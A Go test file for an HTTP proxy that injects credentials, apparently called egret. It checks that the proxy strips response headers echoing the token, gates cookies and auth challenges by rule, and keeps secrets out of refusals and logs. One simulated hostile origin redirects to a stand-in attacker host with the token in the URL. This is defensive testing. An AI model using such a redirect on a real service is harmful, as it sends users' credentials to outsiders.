// SPDX-FileCopyrightText: The egret authors
// SPDX-License-Identifier: Apache-2.0

package proxy

import (
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/egret-proxy/egret/policy"
)

// An origin that sends the credential back does not give it to the caller in a header.
func TestMUST_H10_HeadersThatCarryTheInjectedValueAreRemoved(t *testing.T) {
	w := newWorld(t, withHandler(func(rw http.ResponseWriter, r *http.Request) {
		token := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		h := rw.Header()
		h.Set("Trailer", "X-End, X-Digest")
		h.Set("X-You-Sent", r.Header.Get("Authorization"))
		h.Set("Location", "https://evil.example/?t="+url.QueryEscape(token))
		h.Add("X-Mixed", "fine")
		h.Add("X-Mixed", "and "+token)
		h.Set("X-Fine", "fine")
		rw.WriteHeader(http.StatusEarlyHints)
		rw.WriteHeader(http.StatusOK)
		_, _ = io.WriteString(rw, "body")
		h.Set("X-End", token)
		h.Set("X-Digest", "abc")
	}))
	both(t, w, func(t *testing.T, c *http.Client) {
		resp := do(t, c, request(t, "GET", "https://"+otherHost+"/", nil))
		_ = body(t, resp)
		token := w.minter.last.Load().Reveal()
		for _, h := range []http.Header{resp.Header, resp.Trailer} {
			for name, values := range h {
				if strings.Contains(strings.Join(values, " "), token) {
					t.Errorf("%s carries the token", name)
				}
			}
		}
		if resp.Header.Get("X-Fine") != "fine" || resp.Trailer.Get("X-Digest") != "abc" {
			t.Errorf("header %v, trailer %v", resp.Header, resp.Trailer)
		}
	})
}

func TestMUST_H10_SetCookieAndChallengesPassByRuleOnly(t *testing.T) {
	for _, by := range []bool{false, true} {
		w := newWorld(t, withPolicy(func(s *policy.Set) {
			for _, r := range s.Rules {
				r.SetCookie, r.WWWAuth = by, by
			}
		}))
		both(t, w, func(t *testing.T, c *http.Client) {
			cookie, _ := w.get(c, "https://"+echoHost+"/cookie")
			challenge, _ := w.get(c, "https://"+echoHost+"/challenge")
			if (cookie.Header.Get("Set-Cookie") != "") != by || (challenge.Header.Get("WWW-Authenticate") != "") != by {
				t.Errorf("by rule %v: %v, %v", by, cookie.Header["Set-Cookie"], challenge.Header["Www-Authenticate"])
			}
		})
	}
}

func TestMUST_H17_ResponsesCannotLeadRoundEgretOrSpeakForIt(t *testing.T) {
	w := newWorld(t, withHandler(func(rw http.ResponseWriter, _ *http.Request) {
		for _, name := range []string{"Alt-Svc", "Egret-Decision", "egret_workload", "Proxy-Status", "Proxy-Authenticate", "Proxy-Authentication-Info"} {
			rw.Header()[name] = []string{"hostile"}
		}
	}))
	both(t, w, func(t *testing.T, c *http.Client) {
		resp, _ := w.get(c, "https://"+otherHost+"/")
		for name, values := range resp.Header {
			if strings.Join(values, "") == "hostile" {
				t.Errorf("%s passed", name)
			}
		}
		if got := resp.Header["Egret-Decision"]; len(got) != 1 || !strings.HasPrefix(got[0], "allow; id=") {
			t.Errorf("Egret-Decision %q", got)
		}
	})
}

func TestMUST_H12_RefusalsSayNothingOfWhatWasSent(t *testing.T) {
	w := newWorld(t, onlyPath("/only"))
	resp := do(t, w.client("sidecar"), func() *http.Request {
		r := request(t, "POST", "https://"+echoHost+"/path-secret?q=query-secret", strings.NewReader("body-secret"))
		r.Header.Set("X-Thing", "header-secret")
		r.Header.Set("Authorization", "Bearer own-secret")
		return r
	}())
	text := body(t, resp)
	all := text + resp.Status + strings.Join(resp.Header["Proxy-Status"], "") + strings.Join(resp.Header["Egret-Decision"], "")
	if resp.StatusCode != 403 || strings.Contains(all, "secret") {
		t.Errorf("%s", all)
	}
	rec := w.wait(1, any1)
	for _, s := range []string{"query-secret", "header-secret", "own-secret", "body-secret", "path-secret"} {
		if strings.Contains(w.records.text()+w.logs.String(), s) {
			t.Errorf("%s is in the record or the log: %+v", s, rec)
		}
	}
}
